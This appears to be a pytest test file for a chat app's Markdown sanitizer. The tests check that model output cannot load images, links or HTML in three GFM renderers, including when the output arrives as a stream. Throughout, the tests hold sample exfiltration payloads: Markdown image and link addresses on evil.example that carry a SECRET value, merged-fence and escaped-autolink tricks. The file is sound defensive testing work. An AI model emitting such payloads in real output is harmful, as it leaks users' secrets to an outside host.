"""Model text rendered so that nothing in it loads: every exfiltration variant, whole and streamed.

What is checked is what Markdown renderers make of the output: it is parsed
again (CommonMark with raw HTML allowed, GFM tables and strikethrough) and no
image, link or HTML may come out of it, and the rendered HTML must not hold an
address a browser would fetch or follow. Three GFM renderers must agree that it
is inert (tests/helpers/markdown_renderers.py): cmark-gfm, markdown-it with
linkify, and remark-gfm's autolink search, which links addresses even through
backslash escapes.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gpt4all_rag.markdown import code_span, escape_text, is_inert, safe_markdown
from tests.helpers.exfiltration import EXFILTRATION, RENDERER, SECRET, assert_inert, live_tokens
from tests.helpers.markdown_renderers import cmark_gfm, remark_autolinks


def prefixes(text: str) -> list[str]:
    return [text[:n] for n in range(1, len(text) + 1)]


def test_the_checker_sees_the_variants_as_live_when_not_rendered() -> None:
    assert [name for name, text in EXFILTRATION.items() if not live_tokens(text)] == []


@pytest.mark.parametrize("text", EXFILTRATION.values(), ids=EXFILTRATION.keys())
def test_every_exfiltration_variant_is_inert_whole(text: str) -> None:
    assert_inert(safe_markdown(text))


def test_streamlit_extensions_cannot_start() -> None:
    # Streamlit also renders $math$ (KaTeX), :color[directives] and :emoji: shortcodes.
    shown = safe_markdown(EXFILTRATION["math"] + " " + EXFILTRATION["streamlit directive"])

    outside_code = re.sub(r"(`+).*?\1", "", shown)
    assert re.findall(r"(?<!\\)[$:]", outside_code) == []
    assert outside_code.count("\\$") == 6


@pytest.mark.parametrize("text", EXFILTRATION.values(), ids=EXFILTRATION.keys())
def test_every_exfiltration_variant_is_inert_at_every_point_of_a_stream(text: str) -> None:
    # A stream is rendered again from the whole text so far after each piece; the
    # worst case is a piece per character, which ends on every possible split.
    for prefix in prefixes(text):
        assert_inert(safe_markdown(prefix + "▌"))


def test_an_image_becomes_its_alt_text_and_its_address_as_code() -> None:
    shown = safe_markdown(f"Look ![the chart](https://evil.example/c.png?q={SECRET}) here.")

    assert shown == (
        "Look the chart \\(image not loaded\\: `https://evil.example/c.png?q=SECRET`\\) here\\."
    )
    assert RENDERER.render(shown) == (
        "<p>Look the chart (image not loaded: <code>https://evil.example/c.png?q=SECRET</code>)"
        " here.</p>\n"
    )


def test_the_escaped_bang_variant_shows_text_and_code_only() -> None:
    shown = safe_markdown(f"\\![x](https://evil.example/?q={SECRET})")

    assert RENDERER.render(shown) == ("<p>!x (<code>https://evil.example/?q=SECRET</code>)</p>\n")


def test_raw_html_is_shown_as_the_text_it_is() -> None:
    shown = safe_markdown('A <img src="x.png"> and <b>bold</b> & co.')

    assert RENDERER.render(shown) == (
        "<p>A &lt;img src=&quot;x.png&quot;&gt; and &lt;b&gt;bold&lt;/b&gt; &amp; co.</p>\n"
    )


@pytest.mark.parametrize(
    "text",
    [
        "The core runs at **451 kelvin** [1].",
        'Use `install.packages("x")` and *then* ~~not~~ this [1, 2].',
        "# Title\n\nA paragraph\nover two lines.\n\n## Sub\n\nText.",
        "- one\n- two\n  - nested\n- three",
        "1. first\n2. second\n\n   more of second\n3. third",
        "> quoted\n> text\n\nafter",
        '```r\ninstall.packages("x")\n# a comment\n```',
        "    indented code <b>\n",
        "| a | b |\n|:--|--:|\n| 1 | 2 |",
        "A line  \nwith a hard break, and a rule:\n\n***\n\nend.",
        "Prices: $5 and 3 < 4 > 2 & 10% off_the_top *really*.",
    ],
)
def test_ordinary_markdown_looks_the_same(text: str) -> None:
    # The Markdown differs (escapes, fenced code); what a reader sees does not.
    assert RENDERER.render(safe_markdown(text)) == RENDERER.render(text)


def test_code_keeps_backticks_and_table_pipes() -> None:
    assert code_span("a `b` c") == "``a `b` c``"
    assert code_span("`x`") == "`` `x` ``"
    assert code_span("a|b", in_table=True) == "`a\\|b`"
    assert code_span("line\nbreak") == "`line break`"
    assert RENDERER.render(safe_markdown("```\nx ``` y\n```")) == (
        "<pre><code>x ``` y\n</code></pre>\n"
    )


def test_escape_text_shows_a_hostile_file_name_literally() -> None:
    name = "x.![](http://evil.example/a.png)"

    shown = escape_text(name)

    assert_inert(shown)
    assert RENDERER.render(shown) == ("<p>x.![](<code>http://evil.example/a.png</code>)</p>\n")


def test_escape_text_keeps_lines_and_neutralizes_line_starts() -> None:
    shown = escape_text("1. not a list\n# not a heading\n\n<img src=x>\r- no")

    assert_inert(shown)
    assert RENDERER.render(shown) == (
        "<p>1. not a list\n# not a heading</p>\n<p>&lt;img src=x&gt;\n- no</p>\n"
    )


# Pieces that combine into every construct above, for random documents.
PIECES = [
    "!", "[", "]", "(", ")", "<", ">", "\\", "`", "*", "_", "|", "-", "#", ":", "&", ";",
    " ", "\n", "\n\n", "    ", "x", "1.", "![", "](", "[r]: ", "http://e.example/?q=S",
    "www.e.example", "a@e.example", "<img src=http://e.example/i>", "&#33;", "&lt;",
    "<http://e.example>", "```", "~~~", "> ", "- ", "| a |", "|---|", "$", "\"t\"",
]  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40))
def test_no_combination_of_pieces_makes_anything_live(pieces: list[str]) -> None:
    text = "".join(pieces)

    assert_inert(safe_markdown(text))
    assert_inert(escape_text(text))


# What safe_markdown made of item 1's payloads before the fix (issue 21), as the review saw it.
MERGED_FENCES = [
    f"Mail `a@e.x```b`![x](http://evil.example/?q={SECRET})``",
    "See `https://e.x/```x`![y](http://evil.example/)``",
    "`www.e.x``````a````![x](http://evil.example/)`````",
]


@pytest.mark.parametrize("markdown", MERGED_FENCES)
def test_the_checks_see_merged_fences_as_an_image(markdown: str) -> None:
    assert '<img src="http://evil.example/' in cmark_gfm(markdown)
    assert not is_inert(markdown)


def test_an_address_next_to_code_stays_apart_from_it() -> None:
    shown = safe_markdown(f"Mail a@e.x``b`![x](http://evil.example/?q={SECRET})``")

    assert shown == f"Mail `a@e.x` ``b`![x](http://evil.example/?q={SECRET})``"
    assert cmark_gfm(shown) == (
        f"<p>Mail <code>a@e.x</code> <code>b`![x](http://evil.example/?q={SECRET})</code></p>\n"
    )
    assert cmark_gfm(safe_markdown("www.e.x`code`")) == (
        "<p><code>www.e.x</code> <code>code</code></p>\n"
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("_http://evil.example/?q=S", "\\_`http://evil.example/?q=S`"),
        ("x_www.evil.example/?q=S", "x\\_`www.evil.example/?q=S`"),
        ("# x_www.evil.example", "# x\\_`www.evil.example`"),
        ("see www. now", "see `www`\\. now"),
    ],
)
def test_an_address_after_an_underscore_is_code(text: str, shown: str) -> None:
    # remark-gfm links these even escaped: it searches the text after unescaping.
    assert remark_autolinks(text.replace(".", "\\.").replace("_", "\\_")) != []

    assert safe_markdown(text) == shown
    assert remark_autolinks(shown) == []
    assert escape_text(text.removeprefix("# ")) == shown.removeprefix("# ")


@pytest.mark.parametrize(
    "markdown",
    [
        "![x](http://e.x/)",
        "[x](http://e.x/)",
        "<http://e.x/>",
        "a <b>bold</b> word",
        "<div>\nblock\n</div>",
        "plain http://e.x/ text",
        "www\\.evil\\.example",  # linked by remark-gfm through the escapes
        "x\\_a\\@evil\\.example",
        "w&#119;w.evil.example",
        "*www*.evil.example",  # joined across markup: refused, though no renderer links it
    ],
)
def test_is_inert_refuses_anything_a_renderer_could_make_live(markdown: str) -> None:
    assert not is_inert(markdown)


def test_is_inert_accepts_escaped_text_and_addresses_as_code() -> None:
    assert is_inert("See `www.evil.example` and `a@e.x` \\[1\\]\\. **Bold** `code`.")
    assert is_inert("| a |\n|---|\n| `x\\|y` |\n\n```\n![x](http://e.x/) <b>\n```")


def test_text_the_rewrite_would_join_into_an_address_is_shown_escaped_instead() -> None:
    # The rewrite gives "mailto\:x \(image not loaded…": the text reads "mailto:x" across
    # two nodes. No renderer links that, but the check fails closed on it.
    text = "mailto:![x](http://evil.example/?q=S)"

    shown = safe_markdown(text)

    assert shown == escape_text(text) == "`mailto:![x](http://evil.example/?q=S`\\)"
    assert_inert(shown)


def test_whole_words_escaped_one_by_one_join_into_the_escaped_text() -> None:
    words = ["Mail ", "me ", "at ", "a@evil.example ", "or ", "www.evil.example/?q=S_x ", "now"]

    assert "".join(escape_text(word) for word in words) == escape_text("".join(words))
    # Parts of a word escaped one by one would join into links:
    pieces = ["a", "@evil.example or www", ".evil.example/?q=S"]
    assert remark_autolinks("".join(escape_text(piece) for piece in pieces)) != []


@pytest.mark.parametrize(
    "text",
    ["a" * 20_000, "a1" * 10_000, "a.b" * 7_000, "a@" + "b" * 20_000, "x_" * 10_000],
    ids=["letters", "letters-digits", "dotted", "at-then-letters", "underscores"],
)
def test_a_long_word_is_read_in_linear_time(text: str) -> None:
    """A model pushed to write one endless word must not freeze the page (it took 12 s)."""
    import time

    started = time.perf_counter()
    shown = safe_markdown(text)
    escape_text(text)
    assert time.perf_counter() - started < 2.0
    assert is_inert(shown)
